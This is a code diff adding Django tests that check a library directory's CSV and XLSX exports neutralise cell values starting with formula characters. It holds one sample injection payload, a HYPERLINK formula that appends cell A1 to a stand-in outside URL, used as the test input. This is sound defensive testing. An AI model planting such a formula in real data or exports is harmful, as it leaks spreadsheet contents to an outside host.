@@ -108,3 +108,27 @@ def test_no_export_queries_once_per_row(client_as, django_assert_max_num_queries
     with django_assert_max_num_queries(16):
         response = client.get(reverse(name), {"export": "csv"})
     assert response.status_code == 200
+
+
+FORMULA = '=HYPERLINK("http://contoh.example/?"&A1,"klik")'
+
+
+def test_text_that_looks_like_a_formula_stays_text(client_as):
+    library = Library.objects.filter(province_id="19", level="village").order_by("pk").first()
+    Library.objects.filter(pk=library.pk).update(name=FORMULA)
+    client = client_as("admin")
+    sheet = workbook(client.get(reverse("libraries:library_list"), {"export": "xlsx"})).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+    text = client.get(reverse("libraries:library_list"), {"export": "csv"}).content.decode("utf-8-sig")
+    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
+    assert "'" + FORMULA in values and FORMULA not in values
+
+
+def test_the_csv_guard_covers_every_formula_start():
+    from foundation.formulas import FORMULA_START, csv_cell
+
+    for start in FORMULA_START:
+        assert csv_cell(f"{start}1") == f"'{start}1"
+    assert csv_cell("Perpustakaan Desa") == "Perpustakaan Desa"
+    assert csv_cell(-5) == -5  # numbers stay numbers
